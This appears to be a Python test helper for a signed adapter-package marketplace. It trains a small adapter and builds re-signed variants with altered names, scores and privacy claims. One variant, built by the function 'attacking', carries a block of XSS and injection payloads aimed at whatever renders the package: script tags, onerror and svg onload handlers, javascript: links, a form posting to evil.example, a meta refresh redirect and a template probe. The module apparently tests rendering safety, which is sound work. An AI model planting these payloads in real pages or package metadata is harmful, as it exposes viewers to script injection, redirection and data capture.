"""Packages for a marketplace: one adapter trained for a small task, told in many ways.

Each variant carries other words, scores or privacy in its manifest, hashed and signed by its
maker as a run of theirs would have; the adapter and its screening record are the trained one's.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from evidence._gate_packages import Raw, good_package, resigned
from tensafe.gate.load_records import RunningBase
from tensafe.gate.running import running_base
from tensafe.screen.tasks import task_dataset
from tensafe.tgsp import Identity, KeyPair
from tensafe.tgsp.keys import public_keys_fields
from tinker_engine.config import EngineConfig
from tinker_engine.connect import base_info, download_adapter, load_tokenizer, open_engine
from tinker_engine.recipes.chat_format import ChatFormat
from tinker_engine.recipes.sft import run_sft
from tinker_engine.recipes.sft_config import SftConfig

STEPS = 20
ATTACK = "\"><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
ATTACKING_SKILL = """# <script>document.title='owned'</script>

<img src=x onerror="document.title='owned'"> <iframe src="javascript:alert(1)"></iframe>

[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>)
![track](https://tracker.example/pixel.png) [a link](https://example.org/a "t")

<style>body{display:none}</style> <form action="https://evil.example"><input name=p></form>

| a | b |
|---|---|
| <svg/onload=alert(1)> | `</code><script>x</script>` |

{{ 7*7 }} {% raw %} </div></section><meta http-equiv=refresh content="0;url=//evil.example">
"""


@dataclass(frozen=True)
class TrainedPackage:
    """A good package's bytes, the base that it is for, and the key that signed it."""

    data: bytes
    base: RunningBase
    signer: KeyPair


def trained_package(folder: Path, steps: int = STEPS) -> TrainedPackage:
    """Train an adapter on the embedded engine's `nano` and pack it."""
    signer = KeyPair.generate(Identity("Maker", "maker@example.org"))
    dataset = task_dataset("sorting", 5)
    config = SftConfig(
        rank=8, alpha=16, batch_size=16, epochs=steps * 16 / len(dataset.train),
        learning_rate=2e-3, validation_fraction=0.0, privacy=None,
    )  # fmt: skip
    with open_engine("embedded", config=EngineConfig(home=folder / "engine")) as engine:
        base = running_base(engine)
        result = run_sft(
            engine.service_client,
            ChatFormat(load_tokenizer(engine)),
            [example.messages for example in dataset.train],
            config,
            folder / "training",
            base_model=base.name,
            hidden_size=base_info(engine).hidden_size,
        )
        download_adapter(engine, result.checkpoint, folder / "adapter")
    package = good_package(folder / "good.tgsp", folder / "adapter", base, signer)
    return TrainedPackage(package.read_bytes(), base, signer)


def variant(
    package: bytes,
    signer: KeyPair,
    name: str,
    *,
    description: str = "Sorts words.",
    domain: str = "general",
    score: float = 0.9,
    epsilon: float | None = None,
    licence: str = "",
    body: str = "",
    title: str | None = None,
    **changes: Any,
) -> bytes:
    """The package under another name with other words, signed by `signer`."""
    matter = f"---\nname: {name}\ndescription: {description}\n"
    matter += f"license: {licence}\n---\n" if licence else "---\n"

    def change(raw: Raw) -> None:
        raw.update(name=name if title is None else title, domain=domain)
        raw["skill"].update(description=description)
        raw["skill_doc"] = matter + "\n" + (body or f"# {name}\n\n{description}\n")
        raw["evaluation"].update(score=score, interval=[max(0.0, score - 0.06), min(1.0, score)])
        if epsilon is not None:
            raw["privacy"] = {
                "mechanism": "dp-sgd", "epsilon": epsilon, "delta": 1e-5, "clip_norm": 1.0,
                "noise_multiplier": 1.2, "sampling_rate": 0.05, "steps": 70,
                "accountant": "dp-accounting PLD", "accountant_version": "0.6.0",
            }  # fmt: skip
        identity, keys = signer.public.identity, signer.public.keys
        raw["creator"].update(
            name=identity.name,
            email=identity.email,
            organization=identity.organization,
            public_key_fingerprint=signer.public.fingerprint,
            **public_keys_fields(keys),
        )
        raw.update(changes)

    return resigned(package, signer, change)


def attacking(package: bytes, signer: KeyPair, name: str = "hostile") -> bytes:
    """A package whose texts attack whoever shows them, and that the gate has nothing against."""
    return variant(
        package, signer, name, description="Greets people.", domain=ATTACK, body=ATTACKING_SKILL
    )
